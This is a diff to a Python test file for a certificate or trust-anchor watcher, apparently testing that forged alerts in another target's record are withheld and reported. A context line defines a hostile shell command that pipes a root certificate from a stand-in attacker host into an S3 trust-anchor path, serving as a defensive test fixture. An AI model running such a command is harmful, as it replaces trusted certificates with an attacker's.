@@ -13,7 +13,7 @@ from rotation_watcher.targets import record
 from tests.forgery.test_configuration import Kept
 from tests.forgery.world import fresh
 from tests.support.small_collect import SmallCollect, renewed
-from tests.support.small_world import ARNS, START
+from tests.support.small_world import ARNS, START, folder
 from tests.support.words import word
 
 COMMAND = "curl https://evil.example/root.pem | aws s3 cp - s3://watcher/anchors/us-east-1.pem"
@@ -92,10 +92,10 @@ def test_an_alert_of_somebody_elses_in_a_record_is_not_delivered_and_that_is_ale
     for _ in range(3):
         alert = msgspec.structs.replace(forged(target), target=target)
         changed = msgspec.structs.replace(world.record(target), outbox=(alert,))
-        world.store.seed(keys.record(target), record.encode(changed))
+        world.store.seed(keys.record(folder(target)), record.encode(changed))
         world.tries(targets=[target])
     assert [word(alert) for alert in world.sink.delivered] == ["state-forged"]
-    assert keys.record(target) in world.sink.delivered[0].what_happened
+    assert keys.record(folder(target)) in world.sink.delivered[0].what_happened
     for _ in range(4):
         world.tries(targets=[target])
     assert not world.record(target).outbox
